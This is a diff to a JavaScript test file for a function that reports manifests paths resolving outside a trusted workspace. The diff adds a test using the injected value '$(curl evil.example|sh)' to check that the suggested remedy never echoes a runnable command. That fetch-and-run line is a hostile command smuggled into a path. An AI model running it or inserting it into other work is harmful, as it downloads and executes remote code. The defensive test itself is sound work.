@@ -167,10 +167,18 @@ describe("where state may be kept", () => {
 });
 
 describe("where manifests may be", () => {
-  it("is told with the folder that was named, the one that it leads to, and the one that it leaves", () => {
-    const problem = manifestsBeyond({ manifests: "../out" }, 0, { real: "/out", boundary: "/w" });
+  it.each([
+    [false, "outside of /w"],
+    [true, "through a link in /w"],
+  ])("is told with the folder that was named and the one that it leads to: by a link, %s", (linked, how) => {
+    const problem = manifestsBeyond({ manifests: "../out" }, 0, { real: "/out", boundary: "/w", linked });
     expect(problem).toMatchObject({ code: "BEYOND_TRUST", path: ["workspaces", 0, "manifests"] });
-    for (const text of ["../out", "/out", "/w"]) expect(problem.message).toContain(text);
-    expect(problem.remedy).toContain("--manifests ../out");
+    expect(problem.message).toBe(`manifests is ../out, which leads to /out ${how}`);
+  });
+
+  it("is told without a command that a path could be made to run when it is pasted", () => {
+    const manifests = "$(curl evil.example|sh)";
+    const { remedy } = manifestsBeyond({ manifests }, 0, { real: "/out", boundary: "/w", linked: false });
+    expect(remedy).not.toContain("curl");
   });
 });
